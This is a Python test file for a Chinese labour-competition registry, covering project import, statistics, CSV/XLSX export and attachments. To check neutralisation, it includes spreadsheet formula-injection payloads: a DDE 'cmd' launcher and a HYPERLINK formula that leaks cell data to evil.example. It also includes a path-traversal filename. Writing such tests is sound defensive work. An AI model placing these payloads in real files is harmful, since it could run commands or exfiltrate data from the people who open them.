from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import re
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from registry import InvalidValue, Registry
from tests.registry.conftest import competition

ROWS = [
    ("哈尔滨新区智能制造产业园", "省百大项目", "松北区", "制造业"),
    ("哈电机大型水电机组改造", "市重点产业项目", "松北区", "装备制造"),
    ("道里区冷链物流中心", "市重点", "道里区", "物流"),
    ("地铁3号线二期", "省百大", "道里区", "交通"),
]


def _csv(path: Path, rows=ROWS, encoding="utf-8-sig") -> Path:
    with path.open("w", encoding=encoding, newline="") as f:
        w = csv.writer(f)
        w.writerow(["名称", "级别", "区县", "行业"])
        w.writerows(rows)
    return path


def _xlsx(path: Path, rows=ROWS) -> Path:
    wb = Workbook()
    wb.active.append(["项目名称", "级别", "区县", "行业"])
    for r in rows:
        wb.active.append(list(r))
    wb.save(path)
    return path


@pytest.mark.parametrize("make", [_csv, _xlsx, lambda p: _csv(p, encoding="gb18030")])
def test_project_import(reg: Registry, tmp_path: Path, make):
    path = make(tmp_path / ("p.xlsx" if make is _xlsx else "p.csv"))
    assert reg.import_projects(path) == 4
    assert [(p.name, p.level, p.district) for p in reg.projects()][:2] == [
        ("哈尔滨新区智能制造产业园", "省百大", "松北区"),
        ("哈电机大型水电机组改造", "市重点", "松北区"),
    ]
    assert reg.import_projects(path) == 4 and len(reg.projects()) == 4  # re-import updates, never duplicates
    assert [p.name for p in reg.find_projects("冷链")] == ["道里区冷链物流中心"]
    assert reg.check_field("project_id", "地铁3号线二期", draft={}) == reg.find_projects("地铁")[0].id


def test_project_import_rejects_bad_files_atomically(reg: Registry, tmp_path: Path):
    with pytest.raises(InvalidValue, match="第 3 行：项目级别“国家级”无效"):
        reg.import_projects(_csv(tmp_path / "bad.csv", rows=[ROWS[0], ("某项目", "国家级", "", "")]))
    assert reg.projects() == []
    (tmp_path / "h.csv").write_text("项目,区县\n甲,松北区\n", encoding="utf-8")
    with pytest.raises(InvalidValue, match="表头缺少“级别”"):
        reg.import_projects(tmp_path / "h.csv")
    with pytest.raises(InvalidValue, match="不支持的文件类型"):
        reg.import_projects(_doc(tmp_path))


def _doc(tmp_path: Path) -> Path:
    path = tmp_path / "x.docx"
    path.write_bytes(b"PK")
    return path


@pytest.fixture
def dataset(reg: Registry, tmp_path: Path) -> Registry:
    reg.import_projects(_csv(tmp_path / "p.csv"))
    admin = reg.ensure_local_admin()
    songbei, daoli = reg.get_user("songbei"), reg.get_user("daoli")
    p1 = reg.find_projects("智能制造")[0].id
    reg.register_competition(competition(project_id=p1, planned=100, total=400), by=songbei)
    reg.register_competition(
        competition(
            name="五小创新",
            type="五小",
            ownership="非公",
            unit="某民营企业",
            planned=50,
            total=100,
            union_name="道里区总工会",
        ),
        by=daoli,
    )
    c3 = reg.register_competition(
        competition(
            name="=cmd|' /C calc'!A0",
            type="安康杯",
            union_name="外地工会",
            planned=30,
            total=50,
            description="含“引号”，和逗号",
        ),
        by=admin,
    )
    reg.set_status(c3.id, "进行中", by=admin)
    for day, kind in (
        (dt.date(2026, 5, 26), "动员会"),
        (dt.date(2026, 6, 3), "培训"),
        (dt.date(2026, 6, 20), "板报"),
    ):
        reg.record_activity(
            {"kind": kind, "date": day, "place": "会议室", "participants": 40, "summary": "全体职工参加"},
            by=songbei,
        )
    return reg


def test_stats_on_a_known_dataset(dataset: Registry):
    s = dataset.stats(user=dataset.ensure_local_admin())
    assert s["competitions"] == 3
    assert s["by_type"] == {"安康杯": 1, "五小": 1, "六比一创": 1}
    assert s["by_district"] == {"市级/未分区": 1, "松北区": 1, "道里区": 1}
    assert s["by_ownership"] == {"公有": 2, "非公": 1}
    assert s["by_status"] == {"已登记": 2, "进行中": 1}
    p = s["projects"]
    assert (p["total"], p["covered"], p["coverage"]) == (4, 1, 0.25)
    assert {u["name"] for u in p["uncovered"]} == {
        "哈电机大型水电机组改造",
        "道里区冷链物流中心",
        "地铁3号线二期",
    }
    assert p["by_level"]["省百大"] == {"total": 2, "covered": 1, "coverage": 0.5}
    part = s["participation"]
    assert part["overall"] == {"planned": 180, "total": 550, "rate": round(180 / 550, 4)}
    assert part["by_union"]["松北区总工会"] == {"planned": 100, "total": 400, "rate": 0.25}
    assert part["by_union"]["外地工会"]["rate"] == 0.6
    assert part["by_district"]["道里区"]["rate"] == 0.5
    assert s["activities"]["by_month"] == {"2026-05": 1, "2026-06": 2}
    assert s["activities"]["by_kind"]["宣传"] == 1


def test_stats_are_scoped(dataset: Registry):
    s = dataset.stats(user=dataset.get_user("daoli"))
    assert s["competitions"] == 1 and s["by_ownership"] == {"非公": 1}
    assert s["projects"]["total"] == 2  # the 道里区 projects
    assert s["activities"]["total"] == 0


def _xlsx_rows(export) -> tuple[list, object]:
    ws = load_workbook(io.BytesIO(export.data)).active
    return list(ws.iter_rows(values_only=True)), ws


def test_xlsx_export_keeps_chinese_and_real_cells(dataset: Registry):
    admin = dataset.ensure_local_admin()
    export = dataset.export("competitions", "xlsx", user=admin, on=dt.date(2026, 12, 2))
    assert export.filename == "竞赛登记-2026-12-02.xlsx"  # the one naming scheme of every channel
    rows, ws = _xlsx_rows(export)
    header = rows[0]
    assert header[:4] == ("登记编号", "竞赛名称", "竞赛类型", "其他竞赛形式") and "联系电话" in header
    first = dict(zip(header, rows[1], strict=True))
    assert first["竞赛名称"] == "抢工期保安全劳动竞赛" and first["主办工会"] == "松北区总工会"
    assert first["关联重点项目"] == "哈尔滨新区智能制造产业园" and first["开始日期"].date() == dt.date(
        2026, 6, 1
    )
    assert first["参与率"] == 0.25 and first["登记人"] == "松北干部"
    rate = header.index("参与率") + 1
    assert ws.cell(row=2, column=rate).number_format == "0.0%"  # shown as 25.0%
    created = header.index("登记时间") + 1
    cell = ws.cell(row=2, column=created)
    assert isinstance(cell.value, dt.datetime) and cell.number_format == "yyyy-mm-dd hh:mm"
    stored = dt.datetime.fromisoformat(dataset.competition(1, user=admin).created_at)
    assert cell.value == stored.astimezone(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)
    third = dict(zip(header, rows[3], strict=True))
    assert third["竞赛名称"].startswith("=cmd") and ws.cell(row=4, column=2).data_type == "s"
    assert third["对应工会"] == "待核对"
    arows, _ = _xlsx_rows(dataset.export("activities", "xlsx", user=admin))
    assert arows[0][1] == "活动形式" and arows[3][1] == "宣传" and len(arows) == 4


def test_csv_export_has_bom_and_chinese_headers(dataset: Registry):
    admin = dataset.ensure_local_admin()
    raw = dataset.export("competitions", "csv", user=admin).data
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][0] == "登记编号" and rows[1][0] == "JS-2026-0001" and rows[1][12] == "2026-06-01"
    assert rows[1][16] == "25.0%" and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", rows[1][22])
    assert rows[3][1].startswith("'=")  # no formula injection
    assert rows[3][19] == "含“引号”，和逗号"
    assert dataset.export("activities", "csv", user=admin).data.startswith(b"\xef\xbb\xbf")
    with pytest.raises(InvalidValue, match="不支持"):
        dataset.export("competitions", "pdf", user=admin)


@pytest.mark.parametrize(
    "payload",
    [
        '=1+HYPERLINK("http://evil.example/?leak="&B2,"详情")',
        "=2+5+cmd|' /C calc'!A0",
        "-2+3",
        "+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_csv_neutralises_every_formula_start(reg: Registry, payload: str):
    admin = reg.ensure_local_admin()
    stored = reg.register_competition(competition(description=payload), by=admin).description
    rows = list(
        csv.reader(reg.export("competitions", "csv", user=admin).data.decode("utf-8-sig").splitlines())
    )
    assert stored[0] in "=+-@\t\r" and rows[1][19] == "'" + stored


def test_export_to_a_folder_keeps_earlier_exports(dataset: Registry, tmp_path: Path):
    admin = dataset.ensure_local_admin()
    first = dataset.export_to(tmp_path, "activities", "csv", user=admin)
    second = dataset.export_to(tmp_path, "activities", "csv", user=admin)
    assert first.parent == second.parent == tmp_path and first != second and first.is_file()


def test_activity_with_attachments(dataset: Registry):
    songbei = dataset.get_user("songbei")
    c = dataset.competitions(user=songbei)[0]
    a = dataset.record_activity(
        {
            "kind": "其他",
            "kind_other": "劳模宣讲",
            "date": "2026-06-05",
            "place": "工地",
            "participants": 30,
            "summary": "宣讲",
            "competition_id": c.reg_no,
        },
        by=songbei,
        files=[("../../照片.jpg", b"\xff\xd8jpeg"), ("说明.pdf", b"%PDF")],
    )
    assert (a.kind, a.kind_other, a.competition_id, a.organiser) == ("其他", "劳模宣讲", c.id, "松北区总工会")
    first = a.attachments[0]
    assert first.filename == "照片.jpg" and first.size == 6
    stored = dataset.attachment_path(first.path)
    assert stored.is_file() and stored.is_relative_to(dataset.attachments_dir)
    assert hashlib.sha256(stored.read_bytes()).hexdigest() == first.sha256
    assert dataset.activities(user=songbei, competition_id=c.id) == [a]
    assert dataset.activities(user=dataset.get_user("daoli"), competition_id=c.id) == []
    with pytest.raises(InvalidValue, match="请写明具体的活动形式"):
        dataset.record_activity(
            {"kind": "其他", "date": dt.date(2026, 6, 1), "place": "x", "participants": 1, "summary": "x"},
            by=songbei,
        )
